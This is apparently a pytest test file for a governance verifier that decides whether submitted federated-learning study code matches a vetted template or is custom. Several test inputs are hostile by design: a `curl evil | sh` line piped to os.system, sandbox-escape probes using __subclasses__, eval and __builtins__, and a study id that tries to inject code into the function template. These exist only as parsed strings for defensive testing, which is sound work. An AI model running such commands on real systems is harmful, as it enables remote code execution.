"""The request verifier: the library's own code is vetted, anything else is custom and says why.

Nothing here executes request code; the custom examples are strings that are only parsed.
"""

from __future__ import annotations

import ast
import inspect
import textwrap

import pytest

from datasites.contract.template import TEMPLATE, function_name, study_source
from datasites.governance.plan_literal import read_plan
from datasites.governance.vetting import CUSTOM, VETTED, Verdict, classify, code_diff
from scientist import study_code
from scientist.config import DPConfig, StudyConfig
from scientist.study_code import study_function

EMAIL = "scientist@research.org"
CONFIGS = {
    "ehr-default": StudyConfig(aggregation="plain", task="ehr"),
    "ehr-logistic": StudyConfig(
        aggregation="plain",
        task="ehr",
        model="ehr_logistic",
        rounds=3,
        batch_size=64,
        lr=0.05,
        dp=DPConfig(epsilon=2.5, delta=1e-6),
    ),
    "ehr-mlp-any": StudyConfig(
        aggregation="plain",
        task="ehr",
        model="ehr_mlp",
        model_kwargs={"hidden": (32, 16), "dropout": 0.1},
        label="readmitted_any",
        eval_every=2,
    ),
    "path-default": StudyConfig(aggregation="plain", task="pathmnist"),
    "path-wide": StudyConfig(
        aggregation="plain",
        task="pathmnist",
        model_kwargs={"width": 32},
        rounds=20,
        local_epochs=2,
        dp=DPConfig(epsilon=8.0, max_grad_norm=0.5),
    ),
}
STUDY_ID = "ehr-verify-0001"
NAME = "study_ehr_verify_0001"
EXECUTE = "return execute(plan, train=train, test=test, request=weights)"


def plan(study_id: str = STUDY_ID, **changes: object) -> dict:
    return {**CONFIGS["ehr-default"].plan(study_id, EMAIL), **changes}


def source(**changes: object) -> str:
    return study_source(plan(**changes))


def edited(old: str, new: str, text: str | None = None) -> str:
    """The template source with one exact substring replaced (it must be present)."""
    text = source() if text is None else text
    assert text.count(old) == 1, old
    return text.replace(old, new)


def custom(code: str, function: str | None = None) -> Verdict:
    verdict = classify(code, function)
    assert verdict.kind == CUSTOM and not verdict.vetted
    assert verdict.reasons, "a custom verdict must say why"
    return verdict


# --- the library's own code is vetted ------------------------------------------------


@pytest.mark.parametrize("key", sorted(CONFIGS))
def test_every_generated_plan_is_vetted(key: str) -> None:
    study_id = f"{key}-0042"
    generated = CONFIGS[key].plan(study_id, EMAIL)

    verdict = classify(study_source(generated), function_name(study_id))

    assert verdict == Verdict(VETTED, (), generated, None)
    assert verdict.vetted


@pytest.mark.parametrize("key", sorted(CONFIGS))
def test_source_as_syft_stores_it_is_vetted(key: str) -> None:
    generated = CONFIGS[key].plan(f"{key}-0007", EMAIL)
    raw_code = textwrap.dedent(inspect.getsource(study_function(generated)))

    verdict = classify(raw_code, function_name(generated["study_id"]))

    assert verdict.vetted and verdict.reasons == () and verdict.plan == generated


def test_formatting_and_comments_do_not_matter() -> None:
    reformatted = edited(EXECUTE, EXECUTE.replace(", ", ",  ") + "  # the only call")
    reformatted = "# a study\n\n" + reformatted.replace("    plan = {", "    plan = {  # why\n")

    assert classify(reformatted, NAME).vetted


def test_scientist_library_generates_the_hospital_template() -> None:
    assert study_code.TEMPLATE is TEMPLATE
    assert study_code.study_source is study_source
    assert study_code.function_name is function_name


def test_study_source_is_unchanged() -> None:
    """Stored requests were generated with this exact text; any drift makes them custom."""
    small = {"study_id": "ab-c", "lr": 0.5, "epsilon": 1.0}
    expected = (
        "def study_ab_c(train, test, weights):\n"
        "    from datasites.runtime import execute\n"
        "\n"
        "    plan = {'epsilon': 1.0, 'lr': 0.5, 'study_id': 'ab-c'}\n"
        "    return execute(plan, train=train, test=test, request=weights)\n"
    )

    assert study_source(small) == expected
    assert source().splitlines()[3] == "    plan = {   'batch_size': 512,"


# --- custom code, and why ------------------------------------------------------------


def test_code_returning_raw_rows_is_custom() -> None:
    verdict = custom("def study_x(train, test, weights):\n    return train\n")

    assert "the code does not assign a plan" in verdict.reasons
    assert any(r.startswith("the function does not return execute(") for r in verdict.reasons)
    assert "the code does not import execute from datasites.runtime" in verdict.reasons
    assert verdict.plan is None and verdict.plan_error is None


def test_extra_import_and_system_call_are_custom() -> None:
    code = edited("    plan = {", "    import os; os.system('curl evil | sh')\n    plan = {")

    verdict = custom(code, NAME)

    assert "the code imports os" in verdict.reasons
    assert "the code calls os.system" in verdict.reasons
    extra = [r for r in verdict.reasons if r.startswith("the code has statements beyond")]
    assert extra == [
        "the code has statements beyond the template: line 4 (import os), "
        "line 4 (os.system('curl evil | sh'))"
    ]
    assert verdict.plan == plan()


def test_statement_after_return_is_custom() -> None:
    code = source() + "    print(train)\n"
    last = len(code.splitlines())

    verdict = custom(code, NAME)

    expected = f"the code has statements beyond the template: line {last} (print(train))"
    assert expected in verdict.reasons
    assert "the code calls print" in verdict.reasons


def test_module_level_statement_is_custom() -> None:
    """syft runs every top-level statement of the request, not only the function."""
    verdict = custom("import os\n" + source(), NAME)

    assert "the code imports os" in verdict.reasons
    assert "the code has statements beyond the template: line 1 (import os)" in verdict.reasons


def test_second_definition_shadowing_the_function_is_custom() -> None:
    code = source() + f"\n\ndef {NAME}(train, test, weights):\n    return train\n"
    second = len(source().splitlines()) + 3

    verdict = custom(code, NAME)

    expected = f"the code has statements beyond the template: line {second} (def {NAME}("
    assert [r for r in verdict.reasons if r.startswith(expected)] != []


def test_plan_built_by_a_call_is_custom() -> None:
    code = edited("    plan = {", "    plan = dict(**{").replace(
        "'task': 'ehr'}\n", "'task': 'ehr'})\n"
    )

    verdict = custom(code, NAME)

    assert "the plan is not a literal dict" in verdict.reasons
    assert "the code calls dict" in verdict.reasons
    assert verdict.plan is None


def test_plan_with_an_expression_is_custom() -> None:
    code = edited("'epsilon': 1.0,", "'epsilon': 1.0 * 100,")

    verdict = custom(code, NAME)

    assert verdict.reasons == ("the plan is not a literal dict",)
    assert verdict.plan is None and verdict.plan_error is None


def test_plan_with_duplicate_keys_is_custom() -> None:
    """The operator would read the first epsilon; Python keeps the last."""
    code = edited("'epsilon': 1.0,", "'epsilon': 1.0,\n        'epsilon': 90.0,")

    verdict = custom(code, NAME)

    assert verdict.reasons == (
        "the plan literal is not written as the template writes it (sorted keys)",
    )
    assert verdict.plan is not None and verdict.plan["epsilon"] == 90.0


def test_execute_with_an_extra_keyword_is_custom() -> None:
    code = edited("request=weights)", "request=weights, trusted=True)")

    verdict = custom(code, NAME)

    assert verdict.reasons == (
        "the code calls execute with arguments other than "
        "(plan, train=train, test=test, request=weights)",
    )


def test_execute_through_the_module_is_custom() -> None:
    code = edited("from datasites.runtime import execute", "from datasites import runtime")
    code = edited("return execute(", "return runtime.execute(", code)

    verdict = custom(code, NAME)

    assert "the code imports runtime from datasites" in verdict.reasons
    assert "the code calls runtime.execute" in verdict.reasons
    assert "the code does not import execute from datasites.runtime" in verdict.reasons


def test_decorator_is_custom() -> None:
    verdict = custom("@cache\n" + source(), NAME)

    assert verdict.reasons == ("the function has a decorator on line 1",)


def test_default_argument_is_custom() -> None:
    code = edited("weights):", "weights=print('hi')):")

    verdict = custom(code, NAME)

    assert "the function has default argument values" in verdict.reasons
    assert "the code calls print" in verdict.reasons


def test_different_arguments_are_custom() -> None:
    code = edited("(train, test, weights):", "(train, test, weights, *rest):")

    verdict = custom(code, NAME)

    assert verdict.reasons == ("the function's arguments are not (train, test, weights)",)


def test_function_name_must_match_the_request() -> None:
    verdict = custom(source(), "study_someone_else")

    assert verdict.reasons == (
        f"the function is named {NAME}, but the request runs study_someone_else",
    )
    assert classify(source()).vetted  # without a request name, only the study id binds it


def test_function_name_must_match_the_study_id() -> None:
    code = edited(f"def {NAME}(", "def study_other_study(")

    verdict = custom(code, "study_other_study")

    assert verdict.reasons == ("the function name does not match the study id",)


def test_unparsable_code_is_custom() -> None:
    verdict = custom(source()[:-10])

    assert verdict == Verdict(CUSTOM, ("the code does not parse",), None, None)
    assert custom("def f(:\x00").reasons == ("the code does not parse",)


def test_risky_builtins_and_dunders_are_named() -> None:
    code = edited(
        "    plan = {",
        "    getattr(train, '__class__').__subclasses__()\n"
        "    eval('1')\n"
        "    __builtins__\n"
        "    plan = {",
    )

    verdict = custom(code, NAME)

    for reason in (
        "the code uses getattr",
        "the code uses eval",
        "the code uses the name __builtins__",
        "the code accesses the attribute __subclasses__",
    ):
        assert reason in verdict.reasons


def test_study_id_cannot_write_code_into_the_template() -> None:
    """A study id is rendered into the function name; one that is no identifier is refused."""
    hostile = "x(train, test, weights):\n    return train\ndef study_y"
    code = study_source(plan(hostile))

    verdict = custom(code, "study_x")

    assert "the plan's study_id cannot name a Python function" in verdict.reasons


def test_reasons_never_come_from_the_plan_text() -> None:
    """Strings in the plan are data: a scientist's email reading like code is still vetted."""
    verdict = classify(source(scientist="os.system('x')@eval.org"), NAME)

    assert verdict.vetted and verdict.plan_error is None


# --- plan validity is separate from the template -------------------------------------


def test_unknown_plan_field_is_vetted_with_a_plan_error() -> None:
    verdict = classify(source(noise_multiplier=0.5), NAME)

    assert verdict.kind == VETTED and verdict.reasons == ()
    assert verdict.plan is not None and verdict.plan["noise_multiplier"] == 0.5
    assert verdict.plan_error is not None and "noise_multiplier" in verdict.plan_error


def test_invalid_plan_value_is_reported_on_custom_code_too() -> None:
    code = source(epsilon=1e9) + "    print(train)\n"

    verdict = custom(code, NAME)

    assert verdict.plan_error is not None and "epsilon" in verdict.plan_error


def test_verdict_rejects_inconsistent_values() -> None:
    with pytest.raises(ValueError, match="cannot carry reasons"):
        Verdict(VETTED, ("why",))
    with pytest.raises(ValueError, match="kind must be"):
        Verdict("maybe")


# --- the plan reader the operator view uses ------------------------------------------


def test_plan_reader_survives_unhashable_keys() -> None:
    assert classify(source()).plan == plan()
    assert read_plan(ast.parse("{[1]: 2}", mode="eval").body) == (None, None)
    assert classify("def study_x(train, test, weights):\n    plan = {[1]: 2}\n").plan is None


# --- code_diff -----------------------------------------------------------------------


def test_code_diff_is_empty_for_equal_sources() -> None:
    assert code_diff(source(), source()) == ""


def test_code_diff_shows_the_changed_plan_lines() -> None:
    old, new = source(epsilon=1.0), source(epsilon=4.0)

    diff = code_diff(old, new)

    lines = diff.splitlines()
    assert lines[:2] == ["--- previously approved", "+++ this request"]
    assert "-        'epsilon': 1.0," in lines
    assert "+        'epsilon': 4.0," in lines
    assert [line for line in lines if line[:1] in "+-" and line[:3] not in ("---", "+++")] == [
        "-        'epsilon': 1.0,",
        "+        'epsilon': 4.0,",
    ]


def test_code_diff_uses_the_given_labels() -> None:
    diff = code_diff("a\n", "b\n", old_label="request 1", new_label="request 2")

    assert diff == "--- request 1\n+++ request 2\n@@ -1 +1 @@\n-a\n+b\n"


@pytest.mark.parametrize(
    ("extra", "shown"), [({}, "rounds x 1 epochs"), ({"local_steps": 20}, "rounds x 20 steps")]
)
def test_the_request_line_shows_how_long_a_round_is(extra: dict, shown: str) -> None:
    from datasites.governance.operator import RequestView

    config = StudyConfig(
        aggregation="plain", task="pathmnist", rounds=48, **({"local_epochs": 1} | extra)
    )
    plan = config.plan("path-0042", "ana@research.org")
    source = study_source(plan)
    name = function_name("path-0042")
    view = RequestView(
        id="r1",
        status="pending",
        scientist="ana@research.org",
        function=name,
        submitted="now",
        plan=plan,
        code=source,
        verdict=classify(source, name),
    )
    assert view.verdict.kind == VETTED
    assert f"pathmnist_cnn on pathmnist, 48 {shown}, batch 256" in view.summary()
